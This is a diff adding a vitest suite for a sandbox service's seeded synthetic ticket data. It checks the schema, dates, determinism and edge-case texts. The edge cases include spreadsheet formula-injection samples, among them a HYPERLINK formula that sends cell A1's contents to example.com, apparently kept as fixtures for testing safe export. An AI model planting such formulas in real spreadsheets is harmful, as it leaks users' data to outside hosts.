@@ -1,0 +1,160 @@
+// The made-up data: the same for the same seed, sensible, and with the awkward cases in it.
+
+import { describe, expect, it } from 'vitest';
+import { z } from 'zod';
+import { LONG_TEXT, TOO_LONG_TEXT } from '../../../sandbox/service/data/awkward-texts.ts';
+import { createNetwork } from '../../../sandbox/service/data/network.ts';
+import { createTickets } from '../../../sandbox/service/data/tickets.ts';
+import { formatInstant } from '../../../sandbox/service/dates.ts';
+import { makeService, NOW_MS } from './support.ts';
+
+const named = z.strictObject({ id: z.int(), nome: z.string().min(1) });
+const instant = z.string().regex(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
+
+/** spec, "Ticket (v1 list item)" and "Support entry": these fields and no others. */
+const ticketSchema = z.strictObject({
+  id: z.int(),
+  titulo: z.string(),
+  solicitante: named.optional(),
+  responsavel: named.optional(),
+  unidade: named.optional(),
+  departamento: named.optional(),
+  departamentoEnvio: named.optional(),
+  assunto: named.optional(),
+  etiqueta: z.array(named.extend({ cor: z.string().regex(/^#[0-9A-F]{6}$/) })).optional(),
+  apoio: z
+    .array(z.strictObject({ pessoa: named, departamento: named, pessoaUnidade: z.boolean() }))
+    .optional(),
+  tipo: z.int().min(1).max(3),
+  aberto: instant,
+  resolvido: instant.optional(),
+  concluido: instant.optional(),
+  resolverPlanejado: instant.optional(),
+  resolverEstipulado: instant.optional(),
+  avaliacaoNota: z.int().optional(),
+  avaliacaoObservacao: z.string().optional(),
+  situacao: z.int().min(1).max(6),
+  primeiraInteracao: instant.optional(),
+  ultimaAlteracao: instant.optional(),
+  countInteracaoPublico: z.int().min(0).optional(),
+  countInteracaoInterno: z.int().min(0).optional(),
+});
+
+const ALWAYS_SENT = ['id', 'titulo', 'situacao', 'tipo', 'aberto'];
+
+const service = makeService();
+const tickets = service.tickets();
+
+describe('tickets', () => {
+  it('have the fields of the spec', () => {
+    for (const ticket of tickets) expect(ticketSchema.parse(ticket)).toEqual(ticket);
+    expect(tickets).toHaveLength(500);
+    expect(new Set(tickets.map(({ id }) => id)).size).toBe(500);
+  });
+
+  // "absent for tickets in a queue" is stated for `responsavel` alone; the others are absent to be met with tolerance
+  it('lack each optional field somewhere, and have each somewhere', () => {
+    for (const field of Object.keys(ticketSchema.shape)) {
+      const having = tickets.filter((ticket) => field in ticket).length;
+      expect(having, field).toBeGreaterThan(0);
+      if (!ALWAYS_SENT.includes(field)) expect(having, field).toBeLessThan(tickets.length);
+    }
+  });
+
+  it('are in every state and of every type', () => {
+    expect(new Set(tickets.map(({ situacao }) => situacao))).toEqual(new Set([1, 2, 3, 4, 5, 6]));
+    expect(new Set(tickets.map(({ tipo }) => tipo))).toEqual(new Set([1, 2, 3]));
+  });
+
+  it.each([
+    '=HYPERLINK("https://example.com/?q="&A1,"Clique aqui")',
+    '-5',
+    '+5',
+    '@SUM(1)',
+    "'quoted",
+    '00123',
+    '1/2',
+    'TRUE',
+    'Vitrine quebrada 😱🔥 urgente 👩🏽‍🍳',
+    'coluna\tcom\ttabulação',
+    'linha 1\nlinha 2\r\nlinha 3',
+    '',
+    LONG_TEXT,
+    TOO_LONG_TEXT,
+  ])('hold the text %j', (text) => {
+    const texts = tickets.flatMap(({ titulo, avaliacaoObservacao }) => [titulo, avaliacaoObservacao]);
+    expect(texts).toContain(text);
+  });
+
+  it('hold one text of 40,000 characters and one that no cell can hold', () => {
+    expect(LONG_TEXT).toHaveLength(40_000);
+    expect(TOO_LONG_TEXT.length).toBeGreaterThan(50_000);
+  });
+
+  it('hold zeros, empty lists, and lists of several', () => {
+    expect(tickets.some(({ avaliacaoNota }) => avaliacaoNota === 0)).toBe(true);
+    expect(tickets.some(({ countInteracaoPublico }) => countInteracaoPublico === 0)).toBe(true);
+    expect(tickets.some(({ etiqueta }) => etiqueta?.length === 0)).toBe(true);
+    expect(tickets.some(({ etiqueta }) => etiqueta?.length === 2)).toBe(true);
+    expect(tickets.some(({ apoio }) => apoio?.some(({ pessoaUnidade }) => pessoaUnidade))).toBe(true);
+  });
+
+  it('have dates in their natural order, none of what happened after now', () => {
+    const now = formatInstant(NOW_MS);
+    for (const ticket of tickets) {
+      const happened = [
+        ticket.aberto,
+        ticket.primeiraInteracao,
+        ticket.resolvido,
+        ticket.concluido,
+        ticket.ultimaAlteracao,
+      ].filter((date) => date !== undefined);
+      expect(happened).toEqual([...happened].sort());
+      expect(happened.every((date) => date <= now)).toBe(true);
+      if (ticket.situacao === 1) expect(ticket.primeiraInteracao).toBeUndefined();
+      expect(ticket.concluido !== undefined).toBe(ticket.situacao === 2);
+    }
+  });
+
+  it('ask a department for one of its own subjects', () => {
+    const { departments } = service.store.network;
+    for (const { departamento, assunto } of tickets) {
+      if (departamento === undefined || assunto === undefined) continue;
+      const department = departments.find(({ name }) => name.id === departamento.id);
+      expect(department?.subjects.map(({ name }) => name)).toContainEqual(assunto);
+    }
+  });
+});
+
+describe('seed and size', () => {
+  const everything = (seed: number, size: number) => {
+    const made = makeService({ seed, tickets: size, actionPlans: size, templates: 2 });
+    const { templates, questions, assessments, answers } = made.store;
+    return JSON.stringify([
+      made.tickets(),
+      made.actionPlans(),
+      [...templates.values(), ...questions.values()],
+      assessments,
+      answers,
+    ]);
+  };
+
+  it('make the same data again, and other data for another seed', () => {
+    expect(everything(1, 40)).toBe(everything(1, 40));
+    expect(everything(1, 40)).not.toBe(everything(2, 40));
+  });
+
+  it('may be nothing at all', () => {
+    const empty = makeService({ tickets: 0, actionPlans: 0, templates: 0 });
+    expect(empty.tickets()).toEqual([]);
+    expect(empty.store.assessments).toEqual([]);
+  });
+
+  it('make 100,000 tickets in at most two seconds', () => {
+    const network = createNetwork(1);
+    const startedMs = performance.now();
+    const many = createTickets(1, 100_000, NOW_MS, network);
+    expect(performance.now() - startedMs).toBeLessThan(2_000);
+    expect(new Set(many.map(({ id }) => id)).size).toBe(100_000);
+  });
+});
